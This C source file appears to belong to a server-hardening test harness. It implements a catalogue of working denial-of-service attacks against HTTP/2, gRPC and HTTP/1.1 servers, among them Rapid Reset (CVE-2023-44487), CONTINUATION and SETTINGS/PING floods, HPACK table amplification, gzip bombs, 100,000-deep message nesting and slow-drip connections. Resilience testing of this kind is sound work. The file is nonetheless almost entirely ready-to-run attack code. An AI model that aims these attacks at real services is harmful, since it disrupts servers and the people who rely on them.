// SPDX-License-Identifier: Apache-2.0
// The attacks. Header blocks are written by hand: indexed fields of the static table (RFC 7541 appendix A)
// and literals. Paths are those of spec/hostile/target.
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define UNARY "/target.Target/Echo"
#define STREAM_IN "/target.Target/Take"
#define IGNORED "/target.Target/Ignore"
#define STREAM_OUT "/target.Target/Endless"

static unsigned char zeros[16384];

// ---- header blocks

static void put_number(struct bytes *b, unsigned first, unsigned prefix, size_t n) {
    size_t most = (1u << prefix) - 1;
    unsigned char c = (unsigned char)(first | (n < most ? n : most));
    put(b, &c, 1);
    if (n < most) return;
    for (n -= most; n > 127; n >>= 7) {
        c = (unsigned char)(n & 127) | 128;
        put(b, &c, 1);
    }
    c = (unsigned char)n;
    put(b, &c, 1);
}

static void put_string(struct bytes *b, const void *p, size_t n) {
    put_number(b, 0, 7, n);
    put(b, p, n);
}

// A literal whose name is in the table, not to be indexed.
static void put_named(struct bytes *b, size_t index, const char *value) {
    put_number(b, 0, 4, index);
    put_string(b, value, strlen(value));
}

static void put_literal(struct bytes *b, const char *name, const void *value, size_t n) {
    put(b, "", 1);
    put_string(b, name, strlen(name));
    put_string(b, value, n);
}

// :method POST, :scheme http, :path, :authority, content-type, te
static void put_head(struct bytes *b, const char *path) {
    put(b, "\x83\x86", 2);
    put_named(b, 4, path);
    put_named(b, 1, "hostile");
    put_named(b, 31, "application/grpc");
    put_literal(b, "te", "trailers", 8);
}

static struct bytes block; // scratch

static struct bytes *head(const char *path) {
    block.n = 0;
    put_head(&block, path);
    return &block;
}

static uint32_t put_headers(struct peer *p, unsigned flags, const struct bytes *b) {
    uint32_t id = p->next_id;
    p->next_id += 2;
    p->open++;
    p->stream_room[id / 2 % STREAMS] = p->window;
    put_frame(&p->out, HEADERS, flags, id, b->p, b->n);
    return id;
}

static uint32_t ask(struct peer *p, const char *path) {
    return put_headers(p, END_HEADERS, head(path));
}

void put_call(struct peer *p) {
    uint32_t id = ask(p, UNARY);
    put_data(p, END_STREAM, id, "\0\0\0\0\5\x0a\3Ada", 10);
}

static void put_u32(unsigned char out[4], uint32_t n) {
    out[0] = (unsigned char)(n >> 24), out[1] = (unsigned char)(n >> 16);
    out[2] = (unsigned char)(n >> 8), out[3] = (unsigned char)n;
}

static void put_window(struct peer *p, uint32_t id, uint32_t n) {
    unsigned char bytes[4];
    put_u32(bytes, n);
    put_frame(&p->out, WINDOW_UPDATE, 0, id, bytes, 4);
}

static void put_setting(struct peer *p, unsigned key, uint32_t value) {
    unsigned char bytes[6] = {0, (unsigned char)key};
    put_u32(bytes + 2, value);
    put_frame(&p->out, SETTINGS, 0, 0, bytes, 6);
}

static void put_reset(struct peer *p, uint32_t id) {
    p->open--;
    put_frame(&p->out, RST_STREAM, 0, id, "\0\0\0\x08", 4);
}

// ---- resets

// As many streams as the server allows are open: it has to answer first.
static bool busy(const struct peer *p) { return p->open >= STREAMS - 1; }

static void rapid_reset(struct peer *p) { put_reset(p, ask(p, UNARY)); }

static void rapid_reset_work(struct peer *p) {
    uint32_t id = ask(p, STREAM_OUT); // the service has begun when the reset comes
    put_frame(&p->out, DATA, END_STREAM, id, "\0\0\0\0\0", 5);
    put_reset(p, id);
}

static void window_zero(struct peer *p) { put_window(p, ask(p, UNARY), 0); }
static void window_overflow(struct peer *p) {
    if (busy(p)) return;
    put_window(p, ask(p, UNARY), 0x7fffffff);
}

static void half_closed_data(struct peer *p) {
    uint32_t id = put_headers(p, END_HEADERS | END_STREAM, head(UNARY));
    put_frame(&p->out, DATA, 0, id, "x", 1);
}

static void half_closed_headers(struct peer *p) {
    uint32_t id = put_headers(p, END_HEADERS | END_STREAM, head(UNARY));
    put_frame(&p->out, HEADERS, END_HEADERS | END_STREAM, id, block.p, block.n);
}

static void wrong_length(struct peer *p) {
    if (busy(p)) return;

    struct bytes *b = head(UNARY);
    put_literal(b, "content-length", "1", 1);
    uint32_t id = put_headers(p, END_HEADERS, b);
    if (p->room > 5) {
        p->room -= 5;
        put_frame(&p->out, DATA, END_STREAM, id, "12345", 5);
    }
}

static void malformed_headers(struct peer *p) {
    if (busy(p)) return;

    struct bytes *b = head(UNARY);
    put_literal(b, "Upper", "x", 1);
    put_headers(p, END_HEADERS, b);
}

static void bad_trailers(struct peer *p) {
    if (busy(p)) return;

    uint32_t id = ask(p, STREAM_IN);
    put_frame(&p->out, HEADERS, END_HEADERS | END_STREAM, id, "\x83", 1); // :method
}

static void trailers_without_end(struct peer *p) {
    if (busy(p)) return;

    uint32_t id = ask(p, STREAM_IN);
    block.n = 0;
    put_literal(&block, "x-late", "1", 1);
    put_frame(&p->out, HEADERS, END_HEADERS, id, block.p, block.n);
}

static void closed_stream(struct peer *p) {
    uint32_t id = ask(p, UNARY);
    put_reset(p, id);
}
static void closed_stream_frames(struct peer *p) {
    put_frame(&p->out, DATA, 0, 1, NULL, 0);
    put_frame(&p->out, HEADERS, END_HEADERS, 1, head(UNARY)->p, block.n);
    put_window(p, 1, 1);
}

static void too_many_streams(struct peer *p) { ask(p, UNARY); }

// ---- floods of frames

static void open_one(struct peer *p) { ask(p, STREAM_IN); }

static void open_unended_head(struct peer *p) { put_headers(p, 0, head(UNARY)); }
static void continuation_long(struct peer *p) {
    block.n = 0;
    while (block.n < 16000) put_literal(&block, "x-filler", zeros, 0);
    put_frame(&p->out, CONTINUATION, 0, 1, block.p, block.n);
}
static void continuation_tiny(struct peer *p) { put_frame(&p->out, CONTINUATION, 0, 1, "\x83", 1); }
static void continuation_empty(struct peer *p) { put_frame(&p->out, CONTINUATION, 0, 1, NULL, 0); }
static void continuation_within(struct peer *p) {
    if (busy(p)) return;

    struct bytes *b = head("/nobody");
    uint32_t id = put_headers(p, END_STREAM, b);
    for (int i = 0; i < 7; i++)
        put_frame(&p->out, CONTINUATION, i == 6 ? END_HEADERS : 0, id, NULL, 0);
}

static void settings(struct peer *p) { put_frame(&p->out, SETTINGS, 0, 0, NULL, 0); }
static void settings_acks(struct peer *p) { put_frame(&p->out, SETTINGS, ACK, 0, NULL, 0); }
static void settings_windows(struct peer *p) { put_setting(p, 4, p->turn % 2 ? 0x7fffffff : 0); }
static void settings_table(struct peer *p) { put_setting(p, 1, p->turn % 2 ? 4096 : 0); }
static void pings(struct peer *p) { put_frame(&p->out, PING, 0, 0, "12345678", 8); }
static void empty_data(struct peer *p) { put_frame(&p->out, DATA, 0, 1, NULL, 0); }
static void padding(struct peer *p) { put_data(p, PADDED, 1, "\x05\0\0\0\0\0", 6); }
static void window_updates(struct peer *p) { put_window(p, 0, 1); }
static void priorities(struct peer *p) {
    put_frame(&p->out, PRIORITY, 0, p->next_id, "\0\0\0\0\x10", 5);
}
static void unknown_frames(struct peer *p) { put_frame(&p->out, 0x42, 0, 0, NULL, 0); }
static void goaways(struct peer *p) { put_frame(&p->out, GOAWAY, 0, 0, "\0\0\0\0\0\0\0\0", 8); }

// ---- header lists

// One field of 4,000 bytes in the table, then references to it, a byte each.
static void table_references(struct peer *p) {
    struct bytes *b = head(UNARY);
    put(b, "\x40", 1);
    put_string(b, "x", 1);
    memset(zeros, 'v', 4000);
    put_string(b, zeros, 4000);
    memset(zeros, 0, 4000);
    while (b->n < 16000) put(b, "\xbe", 1);
    put_headers(p, END_HEADERS, b);
}

static void many_fields(struct peer *p) {
    if (busy(p)) return;
    // just below the limit: an ordinary, costly request
    struct bytes *b = head("/nobody");
    put(b, "\x40\1x\0", 4);
    for (int i = 0; i < 440; i++) put(b, "\xbe", 1);
    put_headers(p, END_HEADERS | END_STREAM, b);
}

static void long_value(struct peer *p) {
    if (busy(p)) return;

    struct bytes *b = head(UNARY);
    memset(zeros, 'v', 16000);
    put_literal(b, "x", zeros, 16000);
    memset(zeros, 0, 16000);
    put_headers(p, END_HEADERS | END_STREAM, b);
}

static void table_toggle(struct peer *p) {
    if (busy(p)) return;

    block.n = 0;
    for (int i = 0; i < 2000; i++) put(&block, i % 2 ? "\x3f\xe1\x1f" : "\x20", i % 2 ? 3 : 1);
    put_head(&block, "/nobody");
    put_headers(p, END_HEADERS | END_STREAM, &block);
}

static void utf8_headers(struct peer *p) {
    if (busy(p)) return;

    struct bytes *b = head("/target.Target/\xff\xfe");
    put_literal(b, "x-broken", "\xc3\x28\xff", 3);
    put_headers(p, END_HEADERS | END_STREAM, b);
}

// ---- slow and idle peers

static void endless(struct peer *p, int streams) {
    for (int i = 0; i < streams; i++) {
        uint32_t id = ask(p, STREAM_OUT);
        put_frame(&p->out, DATA, END_STREAM, id, "\0\0\0\0\0", 5);
    }
}
static void zero_window(struct peer *p) {
    put_setting(p, 4, 0);
    endless(p, STREAMS);
}
static void large_answers(struct peer *p) {
    put_setting(p, 4, 0);
    for (int i = 0; i < STREAMS; i++) {
        uint32_t id = ask(p, "/target.Target/Large");
        put_frame(&p->out, DATA, END_STREAM, id, "\0\0\0\0\0", 5);
    }
}
static void crumbs_begin(struct peer *p) {
    put_setting(p, 4, 1);
    endless(p, STREAMS);
}
static void crumbs(struct peer *p) { put_window(p, p->turn % STREAMS * 2 + 1, 1); }
static void deaf(struct peer *p) {
    put_setting(p, 4, 0x7fffffff);
    endless(p, STREAMS);
}
static void idle_streams(struct peer *p) {
    for (int i = 0; i < STREAMS; i++) ask(p, i % 2 ? UNARY : STREAM_IN);
}
static void slow_bodies(struct peer *p) {
    for (uint32_t id = 1; id < 2 * STREAMS; id += 2) put_data(p, 0, id, "\0", 1);
}
// Whole but for the last byte: the server keeps what it has.
static void large_begin(struct peer *p) {
    for (int i = 0; i < STREAMS; i++) {
        uint32_t id = ask(p, UNARY);
        put_data(p, 0, id, "\0\0\x3f\xff\xff", 5);
    }
}
static void large_bodies(struct peer *p) {
    static int sent[STREAMS];
    for (unsigned i = 0; i < STREAMS; i++) {
        if (p->turn == 0) sent[i] = 0;
        if (sent[i] < 255 && put_data(p, 0, i * 2 + 1, zeros, sizeof zeros)) sent[i]++;
    }
}
// Whole messages of streams that nobody reads.
static void messages_begin(struct peer *p) {
    const size_t n = 200 * sizeof zeros;
    const unsigned char frame[5] = {0, 0, (unsigned char)(n >> 16), (unsigned char)(n >> 8),
                                    (unsigned char)n};
    for (int i = 0; i < STREAMS; i++) put_data(p, 0, ask(p, IGNORED), frame, sizeof frame);
}
static void one_request(struct peer *p) { endless(p, 1); }
static void nothing(struct peer *p) { (void)p; }

// ---- broken frames

static void oversized(struct peer *p) { put(&p->out, "\xff\xff\xff\0\0\0\0\0\1", 9); }
static void bad_preface(struct peer *p) { put_text(&p->out, "PRI * HTTP/9.9\r\n\r\nXX\r\n\r\n"); }
static void garbage(struct peer *p) {
    for (int i = 0; i < 64; i++) {
        uint32_t word = p->turn * 2654435761u + (uint32_t)i * 40503u;
        put(&p->out, &word, sizeof word);
    }
}

// ---- gRPC

static void announced(struct peer *p) {
    if (busy(p)) return;

    uint32_t id = ask(p, UNARY);
    put_data(p, END_STREAM, id, "\0\xff\xff\xff\xff", 5);
}
static void empty_messages(struct peer *p) { put_data(p, 0, 1, zeros, 16380); }
static void utf8_message(struct peer *p) {
    if (busy(p)) return;

    uint32_t id = ask(p, UNARY);
    put_data(p, END_STREAM, id, "\0\0\0\0\4\x0a\2\xff\xfe", 9);
}

// A message in a message, 100,000 times; built once.
static const struct bytes *deep_message(void) {
    static struct bytes made;
    if (made.n > 0) return &made;
    struct bytes turned = {0}; // from the inside out, backwards
    for (int i = 0; i < 100000; i++) {
        struct bytes length = {0};
        put_number(&length, 0, 7, 0);
        length.n = 0;
        size_t n = turned.n;
        do {
            unsigned char c = (unsigned char)(n & 127) | (n > 127 ? 128 : 0);
            put(&length, &c, 1);
            n >>= 7;
        } while (n > 0);
        while (length.n > 0) put(&turned, &length.p[--length.n], 1);
        put(&turned, "\x12", 1); // field 2, a message
        free(length.p);
    }
    unsigned char frame[5] = {0};
    put_u32(frame + 1, (uint32_t)turned.n);
    put(&made, frame, 5);
    for (size_t i = turned.n; i > 0; i--) put(&made, &turned.p[i - 1], 1);
    free(turned.p);
    return &made;
}

// A piece at a time, as the windows allow.
static void deep_nesting(struct peer *p) {
    const struct bytes *m = deep_message();
    static size_t at;
    if (p->turn == 0 || at == m->n) {
        ask(p, "/target.Target/Echo");
        at = 0;
    }
    size_t n = m->n - at < sizeof zeros ? m->n - at : sizeof zeros;
    if (put_data(p, at + n == m->n ? END_STREAM : 0, p->next_id - 2, m->p + at, n)) at += n;
}

// Compressed messages that say, or are, more than their bytes: 1 KB that claims 300 MB, and 4 KB that are 4 MB.
static void put_packed(struct peer *p, const struct bytes *packed) {
    int64_t n = (int64_t)packed->n + 5;
    if (busy(p) || p->room < n || p->window < n) return;
    struct bytes *b = head(UNARY);
    put_literal(b, "grpc-encoding", "gzip", 4);
    uint32_t id = put_headers(p, END_HEADERS, b);
    unsigned char prefix[5] = {1};
    put_u32(prefix + 1, (uint32_t)packed->n);
    struct bytes whole = {0};
    put(&whole, prefix, 5);
    put(&whole, packed->p, packed->n);
    put_data(p, END_STREAM, id, whole.p, whole.n);
    free(whole.p);
}
static void grpc_bomb(struct peer *p) {
    static struct bytes made;
    if (made.n == 0) {
        made = gzip_bomb(1000 * 1000);
        put_u32(made.p + made.n - 4,
                __builtin_bswap32(300 * 1000 * 1000)); // the length, the lowest byte first
    }
    put_packed(p, &made);
}
static void grpc_bomb_within(struct peer *p) {
    static struct bytes made;
    if (made.n == 0) made = gzip_bomb(4 * 1000 * 1000);
    put_packed(p, &made);
}

static void requests(struct peer *p) {
    if (busy(p)) return;
    put_call(p);
}

// ---- HTTP/1.1

static void json_nesting(struct peer *p) {
    char line[160];
    size_t n = 100000 * 9;
    snprintf(line, sizeof line,
             "POST /target/echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
             "Content-Length: %zu\r\n\r\n",
             n);
    put_text(&p->out, line);
    for (int i = 0; i < 100000; i++) put(&p->out, "{\"child\":", 9);
}
static void half_request(struct peer *p) {
    put_text(&p->out, "POST /target/echo HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{");
}
static void half_head(struct peer *p) {
    put_text(&p->out, "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ");
}
static void drip(struct peer *p) { put_text(&p->out, "a"); }

const struct attack ATTACKS[] = {
    {.name = "rapid-reset",
     .what = "opens streams and resets them (CVE-2023-44487)",
     .more = rapid_reset},
    {.name = "rapid-reset-work",
     .what = "resets streams whose handlers have begun",
     .more = rapid_reset_work},
    {.name = "window-zero",
     .what = "WINDOW_UPDATE of 0: the server must reset (CVE-2025-8671)",
     .more = window_zero},
    {.name = "window-overflow",
     .what = "a window over 2^31-1: the server must reset",
     .more = window_overflow},
    {.name = "half-closed-data", .what = "DATA after END_STREAM", .more = half_closed_data},
    {.name = "half-closed-headers",
     .what = "HEADERS after END_STREAM",
     .more = half_closed_headers},
    {.name = "wrong-length",
     .what = "a body that is not as long as content-length says",
     .more = wrong_length},
    {.name = "malformed-headers", .what = "a field name in upper case", .more = malformed_headers},
    {.name = "bad-trailers", .what = "trailers with a pseudo-header", .more = bad_trailers},
    {.name = "trailers-without-end",
     .what = "a second header list without END_STREAM",
     .more = trailers_without_end},
    {.name = "closed-stream",
     .what = "frames for a stream that is gone",
     .begin = closed_stream,
     .more = closed_stream_frames},
    {.name = "too-many-streams",
     .what = "opens streams without end",
     .more = too_many_streams,
     .no_ack = true},
    {.name = "continuation-long",
     .what = "CONTINUATION without end, 16 KB each",
     .begin = open_unended_head,
     .more = continuation_long},
    {.name = "continuation-tiny",
     .what = "CONTINUATION without end, a byte each",
     .begin = open_unended_head,
     .more = continuation_tiny},
    {.name = "continuation-empty",
     .what = "CONTINUATION without end, empty",
     .begin = open_unended_head,
     .more = continuation_empty},
    {.name = "continuation-within",
     .what = "requests in as many frames as are allowed",
     .more = continuation_within},
    {.name = "settings", .what = "SETTINGS flood", .more = settings},
    {.name = "settings-deaf",
     .what = "SETTINGS flood whose answers are not read",
     .more = settings,
     .deaf = true},
    {.name = "settings-acks", .what = "acknowledges what was not sent", .more = settings_acks},
    {.name = "settings-windows",
     .what = "windows of 128 streams opened and shut",
     .begin = idle_streams,
     .more = settings_windows},
    {.name = "settings-table",
     .what = "the header table made large and small",
     .more = settings_table},
    {.name = "pings", .what = "PING flood", .more = pings},
    {.name = "pings-deaf",
     .what = "PING flood whose answers are not read",
     .more = pings,
     .deaf = true},
    {.name = "empty-data", .what = "DATA without a byte", .begin = open_one, .more = empty_data},
    {.name = "padding", .what = "DATA of padding only", .begin = open_one, .more = padding},
    {.name = "window-updates", .what = "WINDOW_UPDATE flood", .more = window_updates},
    {.name = "priorities", .what = "PRIORITY flood", .more = priorities},
    {.name = "unknown-frames",
     .what = "frames of a type that nobody knows",
     .more = unknown_frames},
    {.name = "goaways", .what = "GOAWAY storm", .more = goaways},
    {.name = "table-references",
     .what = "a header list that unpacks to 48 MB",
     .more = table_references},
    {.name = "many-fields",
     .what = "header lists of 440 fields in as many bytes",
     .more = many_fields},
    {.name = "long-value", .what = "a field as long as the limit", .more = long_value},
    {.name = "table-toggle",
     .what = "2,000 changes of the table's size before a request",
     .more = table_toggle},
    {.name = "utf8-headers", .what = "headers that are not UTF-8", .more = utf8_headers},
    {.name = "zero-window", .what = "128 endless answers and windows of 0", .begin = zero_window},
    {.name = "large-answers",
     .what = "128 answers of 1 MB and windows of 0",
     .begin = large_answers},
    {.name = "crumbs",
     .what = "128 endless answers, a byte of window at a time",
     .begin = crumbs_begin,
     .more = crumbs},
    {.name = "deaf",
     .what = "128 endless answers that are never read",
     .begin = deaf,
     .deaf = true},
    {.name = "half-closed",
     .what = "ends its side behind a request for an endless answer",
     .begin = one_request,
     .half_close = true},
    {.name = "idle-streams", .what = "128 streams left idle", .begin = idle_streams},
    {.name = "slow-bodies",
     .what = "128 bodies of one byte a second",
     .begin = idle_streams,
     .more = slow_bodies,
     .pace_ms = 1000},
    {.name = "large-bodies",
     .what = "128 bodies of 4 MB that are never whole",
     .begin = large_begin,
     .more = large_bodies},
    {.name = "large-messages",
     .what = "128 streams with messages of 3 MB that nobody reads",
     .begin = messages_begin,
     .more = large_bodies},
    {.name = "unended-head", .what = "a header list that never ends", .begin = open_unended_head},
    {.name = "oversized", .what = "frames of 16 MB", .more = oversized},
    {.name = "bad-preface",
     .what = "a preface of another protocol",
     .begin = bad_preface,
     .more = bad_preface,
     .bare = true},
    {.name = "garbage", .what = "bytes that mean nothing", .more = garbage},
    {.name = "announced", .what = "messages that announce 4 GB", .more = announced},
    {.name = "empty-messages",
     .what = "thousands of empty messages on a stream",
     .begin = open_one,
     .more = empty_messages},
    {.name = "utf8-message", .what = "strings that are not UTF-8", .more = utf8_message},
    {.name = "deep-nesting", .what = "messages nested 100,000 deep", .more = deep_nesting},
    {.name = "grpc-bomb", .what = "1 KB of gzip that claims 300 MB", .more = grpc_bomb},
    {.name = "grpc-bomb-within",
     .what = "4 KB of gzip that unfold to 4 MB, below the limit",
     .more = grpc_bomb_within},
    {.name = "json-nesting",
     .what = "JSON nested 100,000 deep",
     .more = json_nesting,
     .bare = true,
     .http = "1"},
    {.name = "half-request",
     .what = "bodies of one byte a second",
     .begin = half_request,
     .more = drip,
     .pace_ms = 1000,
     .connections = 100,
     .bare = true,
     .http = "1"},
    {.name = "half-head",
     .what = "heads of one byte a second",
     .begin = half_head,
     .more = drip,
     .pace_ms = 1000,
     .connections = 100,
     .bare = true,
     .http = "1"},
    {.name = "connections",
     .what = "10,200 connections that send nothing",
     .begin = nothing,
     .connections = 10200,
     .bare = true},
    {.name = "requests",
     .what = "whole requests, as fast as they go (no attack: for comparison)",
     .more = requests},
};
const size_t ATTACK_COUNT = sizeof ATTACKS / sizeof ATTACKS[0];
